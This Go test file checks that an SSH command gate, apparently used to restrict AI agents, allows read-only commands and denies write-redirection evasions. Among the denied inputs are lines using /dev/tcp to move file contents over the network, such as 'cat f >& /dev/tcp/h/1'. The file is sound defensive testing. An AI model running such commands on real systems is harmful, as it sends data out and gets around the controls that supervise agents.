package sshgate

import (
	"context"
	"os"
	"testing"

	"github.com/airlock-sdk/airlock/analysis/shell"
	"github.com/airlock-sdk/airlock/gate"
	"github.com/airlock-sdk/airlock/record"
)

// TestExampleRulesUseReadOnly: the rule files in examples/ allow agents'
// reading commands and refuse the evasions of the attacker's review.
func TestExampleRulesUseReadOnly(t *testing.T) {
	for _, file := range []string{"../../examples/rules.yaml", "../../examples/sshgateway/rules.yaml"} {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		rs, err := gate.ParseRules(file, data)
		if err != nil {
			t.Fatal(err)
		}
		g := gate.New(gate.Config{Rules: rs, Recorder: &record.Memory{}})
		conn, err := g.Open(context.Background(), gate.Session{Protocol: gate.ProtocolSSH, Identity: gate.Identity{Subject: "a", Kind: gate.KindAgent}})
		if err != nil {
			t.Fatal(err)
		}
		check := func(cmd string) gate.Action {
			parsed, err := shell.Parse(cmd)
			if err != nil {
				t.Fatal(err)
			}
			d, _ := conn.Check(context.Background(), &gate.Request{Protocol: gate.ProtocolSSH, Command: cmd, SSH: parsed})
			return d.Action
		}
		for _, cmd := range []string{"ls -la /srv", "cat /etc/hostname | grep x", "tail -n 5 /var/log/syslog 2>/dev/null"} {
			if a := check(cmd); a != gate.Allow {
				t.Errorf("%s: %q: %s, want allow", file, cmd, a)
			}
		}
		for _, cmd := range []string{"> f", "ls; > f", "X=1 > f", "{ > f; }", "( > f )", "ls > f", "cat f >& g",
			"cat < /dev/tcp/127.0.0.1/9", "cat f >& /dev/tcp/h/1", "grep -r x . > out", "ls | tail > f", "cat <> f"} {
			if a := check(cmd); a == gate.Allow {
				t.Errorf("%s: %q allowed", file, cmd)
			}
		}
	}
}
